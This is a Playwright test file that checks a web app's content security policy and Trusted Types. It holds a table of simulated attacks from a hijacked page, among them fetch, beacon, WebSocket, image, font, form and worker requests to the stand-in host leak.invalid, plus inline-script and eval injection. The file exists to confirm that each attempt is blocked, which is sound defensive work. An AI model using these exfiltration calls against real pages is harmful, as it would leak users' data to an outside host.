import type { Page } from '@playwright/test'
import { takeClass, takeDialogs, takeEmpty } from '../screenshots/every-screen.ts'
import { expect, test } from './program.ts'

const SEEN = 'horseshoe-violations'

/** Writes down, from before the page's first line on, what its content security policy refuses. */
async function watch(page: Page): Promise<void> {
  await page.addInitScript(key => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sourceFile }) => {
      const all = JSON.parse(sessionStorage.getItem(key) ?? '[]') as string[]
      sessionStorage.setItem(
        key,
        JSON.stringify([...all, `${effectiveDirective} ${blockedURI} ${sourceFile}`]),
      )
    })
  }, SEEN)
  await page.reload()
}

const refused = (page: Page) =>
  page.evaluate(key => JSON.parse(sessionStorage.getItem(key) ?? '[]') as string[], SEEN)

const look = () => Promise.resolve()

test.describe('the content security policy, with Trusted Types', () => {
  for (const [name, walk] of [
    ['the empty screens', takeEmpty],
    ['every look of a class, and its print', takeClass],
    ['every dialog', takeDialogs],
  ] as const) {
    test(`has nothing to refuse in ${name}`, async ({ program }) => {
      await watch(program.page)
      await walk(program.page, look)
      expect(await refused(program.page)).toEqual([])
    })
  }
})

/** What a page taken over might try, and the directive that has to stop it. */
const ATTACKS: Readonly<Record<string, readonly [directive: RegExp, attack: () => unknown]>> = {
  fetch: [/^connect-src/, () => fetch('https://leak.invalid/').catch(() => null)],
  'a WebSocket': [
    /^connect-src/,
    () => {
      new WebSocket('wss://leak.invalid/')
    },
  ],
  'a beacon': [/^connect-src/, () => navigator.sendBeacon('https://leak.invalid/', 'names')],
  'a stream of events': [
    /^connect-src/,
    () => {
      new EventSource('https://leak.invalid/')
    },
  ],
  'an image': [
    /^img-src/,
    () => {
      new Image().src = 'https://leak.invalid/names.png'
    },
  ],
  'an image in the address': [
    /^img-src/,
    () => {
      new Image().src = 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"/>'
    },
  ],
  'a style sheet': [
    /^style-src/,
    () =>
      document.head.append(
        Object.assign(document.createElement('link'), {
          rel: 'stylesheet',
          href: 'https://leak.invalid/a.css',
        }),
      ),
  ],
  'a prefetch': [
    /^(?:prefetch|default)-src/,
    () =>
      document.head.append(
        Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'https://leak.invalid/' }),
      ),
  ],
  'a style in the page': [
    /^style-src/,
    () =>
      document.head.append(
        Object.assign(document.createElement('style'), { textContent: 'p { color: red }' }),
      ),
  ],
  'a font': [
    /^font-src/,
    () => new FontFace('leak', 'url(https://leak.invalid/a.woff)').load().catch(() => null),
  ],
  'a frame': [
    /^frame-src/,
    () =>
      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://leak.invalid/' })),
  ],
  'a form': [
    /^form-action/,
    () => {
      const form = Object.assign(document.createElement('form'), { action: 'https://leak.invalid/' })
      document.body.append(form)
      form.submit()
    },
  ],
  'another base': [
    /^base-uri/,
    () =>
      document.head.append(Object.assign(document.createElement('base'), { href: 'https://leak.invalid/' })),
  ],
  'text as code': [
    /^(?:script-src|require-trusted-types-for)/,
    // Later, because what Playwright runs at once may compile text.
    () => {
      setTimeout(() => Function('return 1')() as unknown)
    },
  ],
  'text as a script': [
    /^(?:script-src|require-trusted-types-for)/,
    () =>
      document.head.append(Object.assign(document.createElement('script'), { textContent: 'window.x = 1' })),
  ],
  'text as markup': [
    /^require-trusted-types-for/,
    () => {
      document.createElement('p').innerHTML = '<b>text</b>'
    },
  ],
  'a policy of its own': [
    /^trusted-types/,
    () =>
      (
        window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
      ).trustedTypes.createPolicy('default', {}),
  ],
  'a worker from elsewhere': [
    /^(?:worker-src|require-trusted-types-for)/,
    () => {
      new Worker('https://leak.invalid/a.js')
    },
  ],
}

test.describe('a page that was taken over is stopped when it tries', () => {
  test.skip(({ host }) => host !== 'browser', 'Playwright opens no second page in Electron.')

  for (const [name, [directive, attack]] of Object.entries(ATTACKS)) {
    test(name, async ({ program }) => {
      // Another page of the same session: what it tries is not an error of ours.
      const page = await program.page.context().newPage()
      await page.goto(new URL('/', program.page.url()).href)
      await watch(page)
      const answered: string[] = []
      page.on('response', response => void answered.push(response.url()))
      await page.evaluate(attack).catch(() => null)
      await expect
        .poll(async () => (await refused(page)).filter(line => directive.test(line)))
        .not.toEqual([])
      expect(answered.filter(url => url.includes('leak'))).toEqual([])
    })
  }
})
